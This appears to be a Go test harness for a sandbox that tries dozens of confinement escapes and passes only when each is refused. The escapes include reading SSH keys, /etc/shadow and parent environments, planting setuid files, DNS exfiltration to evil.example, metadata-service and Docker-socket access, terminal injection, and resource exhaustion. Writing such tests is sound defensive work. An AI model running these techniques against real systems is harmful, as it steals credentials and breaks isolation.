package sandbox

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

// An escape is an attempt of a hostile program; it returns its gain, or the error.
type escape struct {
	name   string
	try    func(w *world) (got string, err error)
	mayDie bool // the kernel may kill it
}

// play tries the escape that the environment names.
func play() {
	var w world
	if err := json.Unmarshal([]byte(os.Getenv("WORLD")), &w); err != nil {
		fmt.Println("ESCAPED: no world:", err)
		return
	}
	for _, e := range escapes {
		if e.name != os.Getenv(hostile) {
			continue
		}
		got, err := e.try(&w)
		if err == nil {
			fmt.Printf("ESCAPED: %.300s\n", got)
			return
		}
		fmt.Printf("%.2000v\nstopped\n", err)
		return
	}
	fmt.Println("ESCAPED: there is no such escape")
}

func readFile(path string) (string, error) {
	b, err := os.ReadFile(path)
	return string(b), err
}

// call makes a system call that must fail.
func call(number uintptr, args ...uintptr) error {
	var a [6]uintptr
	copy(a[:], args)
	r, _, errno := unix.Syscall6(number, a[0], a[1], a[2], a[3], a[4], a[5])
	if errno == 0 {
		return nil
	}
	if errno != unix.EPERM && errno != unix.ENOSYS && errno != unix.EACCES {
		return fmt.Errorf("call %d: %d, not refused but: %w", number, r, errno)
	}
	return errno
}

// refused returns an error if the filter refused a call. Any other error would only mean that the
// kernel rejected the arguments.
func refused(number uintptr, args ...uintptr) (string, error) {
	err := call(number, args...)
	if err == unix.EPERM || err == unix.ENOSYS {
		return "", err
	}
	return fmt.Sprintf("call %d gives %v", number, err), nil
}

// allRefused returns an escape with calls that must all be refused.
func allRefused(numbers ...uintptr) func(*world) (string, error) {
	return func(*world) (string, error) {
		for _, n := range numbers {
			if got, err := refused(n); err == nil {
				return got, nil
			}
		}
		return "", unix.EPERM
	}
}

// dial checks whether an address has any listener.
func dial(network, address string) (string, error) {
	if address == "" {
		return "", errors.New("there is none here")
	}
	conn, err := net.DialTimeout(network, address, 3*time.Second)
	if err != nil {
		return "", err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(3 * time.Second))
	if _, err := conn.Write([]byte("GET / HTTP/1.0\r\n\r\n")); err != nil {
		return "", err
	}
	got, err := io.ReadAll(io.LimitReader(conn, 1000))
	if err == nil && len(got) == 0 {
		err = io.EOF
	}
	return string(got), err
}

// first returns the first success of some attempts.
func first(tries ...func() (string, error)) (string, error) {
	var all []error
	for _, try := range tries {
		got, err := try()
		if err == nil {
			return got, nil
		}
		all = append(all, err)
	}
	return "", errors.Join(all...)
}

// query sends a query for a name to a DNS server.
func query(server, name string) (string, error) {
	q := dnsmessage.Message{Header: dnsmessage.Header{ID: 7, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: dnsmessage.TypeTXT, Class: dnsmessage.ClassINET}}}
	packet, err := q.Pack()
	if err != nil {
		return "", err
	}
	conn, err := net.Dial("udp", server)
	if err != nil {
		return "", err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(time.Second))
	if _, err := conn.Write(packet); err != nil {
		return "", err
	}
	buf := make([]byte, 1500)
	n, err := conn.Read(buf)
	if err != nil {
		return "", err
	}
	var m dnsmessage.Message
	if err := m.Unpack(buf[:n]); err != nil {
		return "", err
	}
	if m.RCode != dnsmessage.RCodeSuccess || len(m.Answers) == 0 {
		return "", fmt.Errorf("%v with %d answers", m.RCode, len(m.Answers))
	}
	return fmt.Sprint(m.Answers), nil
}

var escapes = []escape{
	{name: "read the person's SSH key", try: func(w *world) (string, error) { return readFile(w.Secret) }},
	{name: "read another project", try: func(w *world) (string, error) { return readFile(w.Project) }},
	{name: "read the passwords of the machine", try: func(*world) (string, error) { return readFile("/etc/shadow") }},
	{name: "read the key through a link in a folder that it reads", try: func(w *world) (string, error) { return readFile(w.Read + "/link") }},
	{name: "read the key through a link of its own", try: func(w *world) (string, error) {
		os.Symlink(w.Secret, w.Write+"/own")
		return readFile(w.Write + "/own")
	}},
	{name: "read the key through ..", try: func(w *world) (string, error) { return readFile(w.Write + "/../.ssh/id_ed25519") }},
	{name: "read the key through the root of another process", try: func(w *world) (string, error) {
		return first(func() (string, error) { return readFile("/proc/1/root" + w.Secret) }, func() (string, error) { return readFile("/proc/1/cwd" + w.Secret) },
			func() (string, error) { return readFile(fmt.Sprintf("/proc/%d/root%s", w.Victim, w.Secret)) })
	}},
	{name: "read the key by a hard link", try: func(w *world) (string, error) { return "linked", os.Link(w.Secret, w.Write+"/hard") }},
	{name: "read the key through an inherited file", try: func(*world) (string, error) {
		for fd := 3; fd < 1024; fd++ {
			b := make([]byte, 100)
			if n, err := syscall.Pread(fd, b, 0); err == nil && bytes.Contains(b[:n], []byte(theSecret)) {
				return string(b[:n]), nil
			}
		}
		return "", errors.New("none is open")
	}},
	{name: "read files by their handles", try: allRefused(unix.SYS_NAME_TO_HANDLE_AT, unix.SYS_OPEN_BY_HANDLE_AT)},
	{name: "read the disk", try: func(w *world) (string, error) {
		return first(func() (string, error) { return "made", unix.Mknod(w.Write+"/disk", unix.S_IFBLK|0o600, 254<<8) },
			func() (string, error) { return readFile("/dev/vda") }, func() (string, error) { return readFile("/dev/mem") }, func() (string, error) { return readFile("/proc/kcore") })
	}},
	{name: "write next to what it may write", try: func(w *world) (string, error) {
		for _, path := range []string{w.Home + "/new", w.Write + "/../new", filepath.Dir(w.Project) + "/new", w.Write + "/../../../new"} {
			os.WriteFile(path, []byte("x"), 0o600)
		}
		return "", errors.New("what could be written is in memory, as is seen outside")
	}},
	{name: "write where it may only read", try: func(w *world) (string, error) {
		return first(func() (string, error) { return "written", os.WriteFile(w.Read+"/a", []byte("x"), 0o600) },
			func() (string, error) { return "written", os.WriteFile(w.Read+"/b", []byte("x"), 0o600) },
			func() (string, error) { return "removed", os.Remove(w.Read + "/a") }, func() (string, error) { return "changed", os.Chmod(w.Read+"/a", 0o777) },
			func() (string, error) { return "renamed", os.Rename(w.Read+"/a", w.Write+"/b") }, func() (string, error) { return "truncated", os.Truncate(w.Read+"/a", 0) },
			func() (string, error) { return "time", os.Chtimes(w.Read+"/a", time.Now(), time.Now()) }, func() (string, error) { return "linked", os.Link(w.Read+"/a", w.Write+"/c") })
	}},
	{name: "leave a program that runs as the person", try: func(w *world) (string, error) {
		const setuid = 0o4755
		path := w.Write + "/setuid"
		var how = unix.OpenHow{Flags: unix.O_CREAT | unix.O_WRONLY, Mode: setuid}
		f, err := os.CreateTemp(w.Write, "")
		if err != nil {
			return err.Error(), nil
		}
		defer f.Close()
		defer os.Remove(f.Name())
		return first(func() (string, error) { return "changed", unix.Fchmod(int(f.Fd()), setuid) },
			func() (string, error) { return "changed", unix.Fchmodat(unix.AT_FDCWD, f.Name(), setuid, 0) },
			func() (string, error) {
				_, err := unix.Open(path, unix.O_CREAT|unix.O_WRONLY, setuid)
				return "made", err
			},
			func() (string, error) {
				_, err := unix.Open(w.Write, unix.O_TMPFILE|unix.O_WRONLY, setuid)
				return "made", err
			},
			func() (string, error) { _, err := unix.Openat2(unix.AT_FDCWD, path, &how); return "made", err },
			func() (string, error) { return "made", unix.Mknod(path, unix.S_IFREG|setuid, 0) })
	}},
	{name: "write through a link", try: func(w *world) (string, error) {
		return "written", os.WriteFile(w.Write+"/link", []byte("x"), 0o600)
	}},
	{name: "write through an open folder of the root", try: func(w *world) (string, error) {
		return first(func() (string, error) { return "written", os.WriteFile("/x", []byte("x"), 0o600) }, func() (string, error) { return "written", os.WriteFile("/usr/x", []byte("x"), 0o600) },
			func() (string, error) { return "written", os.WriteFile("/etc/passwd", []byte("x"), 0o600) }, func() (string, error) { return "made", os.Mkdir("/home2", 0o700) })
	}},
	{name: "replace the program that confines it", try: func(*world) (string, error) {
		return first(func() (string, error) { return "written", os.WriteFile("/proc/1/exe", []byte("x"), 0o700) },
			func() (string, error) { return "written", os.WriteFile(os.Args[0], []byte("x"), 0o700) },
			func() (string, error) { return "written", os.WriteFile("/proc/self/exe", []byte("x"), 0o700) })
	}},
	{name: "reach shared memory of others", try: func(w *world) (string, error) {
		return first(func() (string, error) { return readFile(w.Shared) }, func() (string, error) {
			r, _, errno := unix.Syscall(unix.SYS_SHMGET, 0x1234, 4096, 0o600)
			if errno != 0 {
				return "", errno
			}
			return "", fmt.Errorf("%d is its own", r)
		})
	}},
	{name: "change settings of the kernel", try: func(*world) (string, error) {
		return first(func() (string, error) {
			return "written", os.WriteFile("/proc/sys/kernel/core_pattern", []byte("|/tmp/x"), 0)
		},
			func() (string, error) { return "written", os.WriteFile("/proc/sysrq-trigger", []byte("h"), 0) }, func() (string, error) { return readFile("/sys/kernel/uevent_helper") },
			func() (string, error) { return "written", os.WriteFile("/proc/1/oom_score_adj", []byte("1000"), 0) }, func() (string, error) { return readFile("/sys/fs/cgroup/cgroup.procs") })
	}},
	{name: "see other processes", try: func(w *world) (string, error) {
		names, _ := filepath.Glob("/proc/[0-9]*")
		for _, name := range names {
			if pid, _ := strconv.Atoi(filepath.Base(name)); pid != 1 && pid != os.Getpid() {
				return name, nil
			}
		}
		return first(func() (string, error) { return readFile(fmt.Sprintf("/proc/%d/environ", w.Victim)) }, func() (string, error) { return "there", unix.Kill(w.Victim, 0) })
	}},
	{name: "read the environment of its parent", try: func(*world) (string, error) {
		for _, pair := range os.Environ() {
			if strings.Contains(pair, theSecret) {
				return pair, nil
			}
		}
		return first(func() (string, error) { return readFile("/proc/1/environ") }, func() (string, error) { return readFile("/proc/1/maps") }, func() (string, error) { return readFile("/proc/1/mem") },
			func() (string, error) { return os.Readlink("/proc/1/fd/3") }, func() (string, error) { return os.Readlink("/proc/1/root") })
	}},
	{name: "look into its parent", try: func(*world) (string, error) {
		return first(func() (string, error) { return "attached", unix.PtraceSeize(1) }, func() (string, error) { return refused(unix.SYS_PTRACE, unix.PTRACE_TRACEME) },
			func() (string, error) { return refused(unix.SYS_PROCESS_VM_READV) }, func() (string, error) { return refused(unix.SYS_PROCESS_VM_WRITEV) },
			func() (string, error) { return refused(unix.SYS_KCMP) }, func() (string, error) { return refused(unix.SYS_PROCESS_MADVISE) })
	}},
	{name: "take an open file of its parent", try: func(*world) (string, error) {
		fd, err := unix.PidfdOpen(1, 0)
		if err != nil {
			return "", err
		}
		_, err = unix.PidfdGetfd(fd, 3, 0)
		return "taken", err
	}},
	{name: "end others", try: func(w *world) (string, error) {
		return first(func() (string, error) { return "killed", unix.Kill(w.Victim, unix.SIGKILL) }, func() (string, error) {
			err := unix.Kill(1, unix.SIGKILL)
			time.Sleep(50 * time.Millisecond)
			if err == nil {
				err = errors.New("the first process of a namespace does not hear it")
			}
			return "killed", err
		})
	}},
	{name: "use what processes share by numbers", try: func(w *world) (string, error) {
		message := make([]byte, 100)
		const noWait = 0o4000
		operation := [3]int16{0, 1, noWait} // struct sembuf
		return first(func() (string, error) {
			err := call(unix.SYS_MSGRCV, uintptr(w.Queue), uintptr(unsafe.Pointer(&message[0])), 80, 0, noWait)
			return string(message), err
		}, func() (string, error) {
			return "counted", call(unix.SYS_SEMOP, uintptr(w.Semaphores), uintptr(unsafe.Pointer(&operation)), 1)
		}, func() (string, error) { return "removed", call(unix.SYS_MSGCTL, uintptr(w.Queue), 0, 0) },
			func() (string, error) { return "removed", call(unix.SYS_SEMCTL, uintptr(w.Semaphores), 0, 0) },
			func() (string, error) { return "removed", call(unix.SYS_SHMCTL, uintptr(w.Memory), 0, 0) })
	}},
	{name: "limit others", try: func(w *world) (string, error) {
		var cpus unix.CPUSet
		cpus.Set(0)
		const idle = 3 << 13 // a class of ioprio_set(2)
		return first(func() (string, error) {
			return "its time", unix.Prlimit(w.Victim, unix.RLIMIT_CPU, &unix.Rlimit{Cur: 1, Max: 1}, nil)
		},
			func() (string, error) {
				return "its files", unix.Prlimit(w.Victim, unix.RLIMIT_NOFILE, &unix.Rlimit{}, nil)
			},
			func() (string, error) { return "its priority", unix.Setpriority(unix.PRIO_PROCESS, w.Victim, 19) },
			func() (string, error) { return "its processors", unix.SchedSetaffinity(w.Victim, &cpus) },
			func() (string, error) {
				return "its disk", call(unix.SYS_IOPRIO_SET, processIO, uintptr(w.Victim), idle)
			})
	}},
	{name: "change what is said of a file", try: func(w *world) (string, error) {
		f, err := os.Open(w.Read + "/a")
		if err != nil {
			return "", err
		}
		defer f.Close()
		const noDump = 0x40 // FS_NODUMP_FL
		return "changed", unix.IoctlSetPointerInt(int(f.Fd()), unix.FS_IOC_SETFLAGS, noDump)
	}},
	{name: "connect to a service of the machine", try: func(w *world) (string, error) { return dial("tcp", w.TCP) }},
	{name: "connect to a service of the machine over IPv6", try: func(w *world) (string, error) { return dial("tcp", w.TCP6) }},
	{name: "connect to a service of the machine by its address", try: func(w *world) (string, error) { return dial("tcp", w.Own) }},
	{name: "connect to the admin port of the gateway by an allowed name", try: func(w *world) (string, error) {
		_, port, _ := net.SplitHostPort(w.TCP)
		return dial("tcp", "api.example.com:"+port)
	}},
	{name: "connect to an address that an allowed name could have", try: func(*world) (string, error) {
		return first(func() (string, error) { return dial("tcp", firstName.String()+":80") }, func() (string, error) { return dial("tcp", "127.64.0.1:80") }, func() (string, error) { return dial("tcp", "127.0.0.1:443") }, func() (string, error) { return dial("tcp", "0.0.0.0:80") })
	}},
	{name: "connect to the metadata service", try: func(*world) (string, error) {
		return first(func() (string, error) { return dial("tcp", "169.254.169.254:80") }, func() (string, error) { return dial("tcp", "[fd00:ec2::254]:80") }, func() (string, error) { return dial("tcp", "100.100.100.200:80") })
	}},
	{name: "connect to the internet without a name", try: func(*world) (string, error) {
		return first(func() (string, error) { return dial("tcp", "1.1.1.1:443") }, func() (string, error) { return dial("tcp", "[2606:4700:4700::1111]:443") }, func() (string, error) { return dial("tcp", "192.168.0.1:80") })
	}},
	{name: "connect to a host that its profile has not", try: func(*world) (string, error) {
		return first(func() (string, error) { return dial("tcp", "evil.example:443") }, func() (string, error) { return dial("tcp", "api.example.com.evil.example:443") }, func() (string, error) { return dial("tcp", "sub.api.example.com:443") })
	}},
	{name: "carry data out in names", try: func(*world) (string, error) {
		return first(func() (string, error) { return query("127.0.0.1:53", "c3RvbGVu.evil.example.") }, func() (string, error) { return query("8.8.8.8:53", "c3RvbGVu.evil.example.") },
			func() (string, error) { return query("127.0.0.53:53", "c3RvbGVu.evil.example.") }, func() (string, error) { return query("127.0.0.1:53", "c3RvbGVu.api.example.com.") })
	}},
	{name: "send datagrams", try: func(w *world) (string, error) {
		return first(func() (string, error) { return dial("udp", w.UDP) }, func() (string, error) { return dial("udp", "1.1.1.1:443") })
	}},
	{name: "make raw packets", try: func(*world) (string, error) {
		for _, s := range [][3]int{{unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_TCP}, {unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6}, {unix.AF_PACKET, unix.SOCK_RAW, 0x0300},
			{unix.AF_INET, unix.SOCK_PACKET, 0x0300}, {unix.AF_PACKET, unix.SOCK_DGRAM, 0}} {
			if _, err := unix.Socket(s[0], s[1], s[2]); err != unix.EPERM {
				return fmt.Sprint(s, err), nil
			}
		}
		return "", unix.EPERM
	}},
	{name: "use other kinds of networks", try: func(*world) (string, error) {
		for family := range 46 {
			switch family {
			case unix.AF_UNIX, unix.AF_INET, unix.AF_INET6:
				continue
			}
			for _, protocol := range []int{0, unix.NETLINK_SOCK_DIAG, unix.NETLINK_AUDIT, unix.NETLINK_KOBJECT_UEVENT} {
				if family == unix.AF_NETLINK && protocol == 0 {
					continue
				}
				if _, err := unix.Socket(family, unix.SOCK_DGRAM, protocol); err != unix.EPERM {
					return fmt.Sprint(family, protocol, err), nil
				}
			}
		}
		return "", unix.EPERM
	}},
	{name: "connect to an agent's socket", try: func(w *world) (string, error) { return dial("unix", w.Socket) }},
	{name: "connect to an abstract socket", try: func(w *world) (string, error) { return dial("unix", "@"+w.Abstract[1:]) }},
	{name: "send to a socket by one of a pair", try: func(w *world) (string, error) {
		var tries []func() (string, error)
		for _, kind := range []int{unix.SOCK_DGRAM, unix.SOCK_RAW, unix.SOCK_SEQPACKET, unix.SOCK_STREAM} {
			for _, to := range []string{w.datagrams(), "@" + w.Abstract[1:] + "/datagrams"} {
				tries = append(tries, func() (string, error) {
					pair, err := unix.Socketpair(unix.AF_UNIX, kind, 0)
					if err != nil {
						return "", err
					}
					err = unix.Sendto(pair[0], []byte("x"), 0, &unix.SockaddrUnix{Name: to})
					if err == nil && kind == unix.SOCK_SEQPACKET {
						err = errors.New("the other one of the pair hears it, as is seen outside")
					}
					return "sent", err
				})
			}
		}
		return first(tries...)
	}},
	{name: "connect to the container engine", try: func(*world) (string, error) {
		return first(func() (string, error) { return dial("unix", "/var/run/docker.sock") }, func() (string, error) { return dial("unix", "/run/dbus/system_bus_socket") })
	}},
	{name: "start without end", mayDie: true, try: func(*world) (string, error) {
		var err error
		n := 0
		for ; n < 200; n++ {
			cmd := exec.Command("/bin/sleep", "60")
			if err = cmd.Start(); err != nil {
				break
			}
		}
		return fmt.Sprint(n), err
	}},
	{name: "take all memory", mayDie: true, try: func(*world) (string, error) {
		size := 0
		for ; size < 4<<30; size += 64 << 20 {
			b, err := unix.Mmap(-1, 0, 64<<20, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS)
			if err != nil {
				return "", fmt.Errorf("after %d MiB: %w", size>>20, err)
			}
			for i := 0; i < len(b); i += 4096 {
				b[i] = 1
			}
		}
		return fmt.Sprint(size), nil
	}},
	{name: "take all memory in several processes", mayDie: true, try: func(*world) (string, error) {
		if os.Getuid() != 0 { // another escape tests the limit of each process
			return "", errors.New("only a control group counts them together, and an ordinary user has none here")
		}
		// Each is below its own limit; together they exceed the total.
		var all []*exec.Cmd
		for range 8 {
			cmd := exec.Command(os.Args[0])
			cmd.Env = append(os.Environ(), hostile+"=hold 200 MiB", "HOLD=1")
			out, err := cmd.StdoutPipe()
			if err != nil {
				return "", err
			}
			if err := cmd.Start(); err != nil {
				return "", err
			}
			b := make([]byte, 4)
			if _, err := io.ReadFull(out, b); err != nil || string(b) != "held" {
				return "", fmt.Errorf("process %d: %v", len(all), err)
			}
			all = append(all, cmd)
		}
		alive := 0
		for _, cmd := range all {
			if stat, err := readFile(fmt.Sprintf("/proc/%d/stat", cmd.Process.Pid)); err == nil && !strings.Contains(stat, ") Z ") {
				alive++
			}
		}
		if alive > 2 { // with 512 MiB
			return fmt.Sprint(alive), nil
		}
		return "", fmt.Errorf("%d processes are left", alive)
	}},
	{name: "hold 200 MiB", try: func(*world) (string, error) {
		if os.Getenv("HOLD") == "" {
			return "", errors.New("a part of another one")
		}
		b := make([]byte, 200<<20)
		for i := range b {
			b[i] = 1
		}
		fmt.Print("held")
		time.Sleep(20 * time.Second)
		return "", fmt.Errorf("%d", b[7])
	}},
	{name: "open files without end", try: func(*world) (string, error) {
		n := 0
		for ; n < 1000; n++ {
			if _, err := unix.Open("/dev/null", unix.O_RDONLY, 0); err != nil {
				return "", fmt.Errorf("after %d: %w", n, err)
			}
		}
		return fmt.Sprint(n), nil
	}},
	{name: "fill the disk", mayDie: true, try: func(w *world) (string, error) {
		for _, dir := range []string{"/tmp", w.Home, "/dev/shm"} {
			f, err := os.Create(dir + "/big")
			if err != nil {
				return "", err
			}
			if n, err := io.Copy(f, io.LimitReader(zeros{}, 300<<20)); err == nil {
				return fmt.Sprint(dir, n), nil
			}
		}
		f, err := os.Create(w.Write + "/big")
		if err != nil {
			return "", err
		}
		defer os.Remove(w.Write + "/big")
		return "extended", f.Truncate(maxFile + 1)
	}},
	{name: "raise its limits", try: func(*world) (string, error) {
		for _, resource := range []int{unix.RLIMIT_NPROC, unix.RLIMIT_FSIZE, unix.RLIMIT_NOFILE, unix.RLIMIT_CORE, unix.RLIMIT_MEMLOCK} {
			if err := unix.Prlimit(0, resource, &unix.Rlimit{Cur: 1 << 40, Max: 1 << 40}, nil); err != unix.EPERM {
				return fmt.Sprint(resource, err), nil
			}
		}
		return "", unix.EPERM
	}},
	{name: "leave a dump of its memory", mayDie: true, try: func(*world) (string, error) {
		var l unix.Rlimit
		if err := unix.Getrlimit(unix.RLIMIT_CORE, &l); err != nil || l.Max > 1 {
			return fmt.Sprint(l, err), nil
		}
		return "", errors.New("none may be written")
	}},
	{name: "make new namespaces", try: func(*world) (string, error) {
		for _, flag := range []uintptr{unix.CLONE_NEWUSER, unix.CLONE_NEWNS, unix.CLONE_NEWNET, unix.CLONE_NEWPID, unix.CLONE_NEWCGROUP, 0} {
			if got, err := refused(unix.SYS_UNSHARE, flag); err == nil {
				return got, nil
			}
			cmd := exec.Command("/bin/true")
			cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: flag}
			if err := cmd.Run(); err == nil && flag != 0 {
				return fmt.Sprintf("clone with %x", flag), nil
			}
		}
		return refused(unix.SYS_CLONE3)
	}},
	{name: "enter other namespaces", try: func(*world) (string, error) {
		return first(func() (string, error) { return refused(unix.SYS_SETNS) }, func() (string, error) { return readFile("/proc/1/ns/net") })
	}},
	{name: "become somebody else", try: func(*world) (string, error) {
		other := 1000
		for _, err := range []error{syscall.Setuid(other), syscall.Setgid(other), unix.Setgroups([]int{other}), syscall.Setresuid(other, other, other), capable()} {
			if err == nil {
				return "did", nil
			}
		}
		return first(func() (string, error) {
			out, err := exec.Command("su", "-c", "id").CombinedOutput()
			return string(out), err
		}, func() (string, error) {
			if v, _ := unix.PrctlRetInt(unix.PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0); v != 1 {
				return "privileges can be gained", nil
			}
			return "", errors.New("no new privileges")
		})
	}},
	{name: "mount", try: allRefused(unix.SYS_MOUNT, unix.SYS_UMOUNT2, unix.SYS_FSOPEN, unix.SYS_FSMOUNT, unix.SYS_FSCONFIG, unix.SYS_FSPICK, unix.SYS_OPEN_TREE, unix.SYS_MOVE_MOUNT, unix.SYS_MOUNT_SETATTR,
		openTreeAttr, unix.SYS_PIVOT_ROOT, unix.SYS_SWAPON, unix.SYS_SWAPOFF)},
	{name: "leave its root", try: func(w *world) (string, error) {
		root, err := os.Open("/")
		if err != nil {
			return "", err
		}
		os.Mkdir(w.Write+"/jail", 0o700)
		if got, err := refused(unix.SYS_CHROOT); err == nil {
			return got, nil
		}
		for range 20 {
			unix.Fchdir(int(root.Fd()))
			os.Chdir("../..")
		}
		return readFile("." + w.Secret)
	}},
	{name: "use keyrings", try: allRefused(unix.SYS_KEYCTL, unix.SYS_ADD_KEY, unix.SYS_REQUEST_KEY)},
	{name: "use io_uring", try: allRefused(unix.SYS_IO_URING_SETUP, unix.SYS_IO_URING_ENTER, unix.SYS_IO_URING_REGISTER)},
	{name: "use what often has faults", try: allRefused(unix.SYS_BPF, unix.SYS_PERF_EVENT_OPEN, unix.SYS_USERFAULTFD, unix.SYS_FANOTIFY_INIT, unix.SYS_LOOKUP_DCOOKIE)},
	{name: "change the kernel", try: allRefused(unix.SYS_INIT_MODULE, unix.SYS_FINIT_MODULE, unix.SYS_DELETE_MODULE, unix.SYS_KEXEC_LOAD, unix.SYS_KEXEC_FILE_LOAD, unix.SYS_REBOOT, unix.SYS_SYSLOG, unix.SYS_ACCT)},
	{name: "change the clock and the name of the machine", try: allRefused(unix.SYS_SETTIMEOFDAY, unix.SYS_CLOCK_SETTIME, unix.SYS_CLOCK_ADJTIME, unix.SYS_ADJTIMEX, unix.SYS_SETHOSTNAME, unix.SYS_SETDOMAINNAME)},
	{name: "type into the person's terminal", try: func(*world) (string, error) {
		if tty, err := os.OpenFile("/dev/tty", os.O_RDWR, 0); err == nil {
			return tty.Name(), nil
		}
		b := byte('x')
		for fd := range uintptr(3) {
			for _, request := range []uintptr{unix.TIOCSTI, tioclinux, unix.TIOCSETD} {
				if got, err := refused(unix.SYS_IOCTL, fd, request, uintptr(unsafe.Pointer(&b))); err == nil {
					return got, nil
				}
				if got, err := refused(unix.SYS_IOCTL, fd, request|1<<32, uintptr(unsafe.Pointer(&b))); err == nil {
					return got, nil
				}
			}
		}
		return "", unix.EPERM
	}},
	{name: "call the kernel as another architecture", mayDie: true, try: otherArchitecture},
}

type zeros struct{}

func (zeros) Read(b []byte) (int, error) { return len(b), nil }

// capable returns nil if the process has any capability.
func capable() error {
	header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var data [2]unix.CapUserData
	if err := unix.Capget(&header, &data[0]); err != nil {
		return err
	}
	if data[0].Permitted|data[1].Permitted|data[0].Effective|data[0].Inheritable == 0 {
		return errors.New("no capability")
	}
	return nil
}
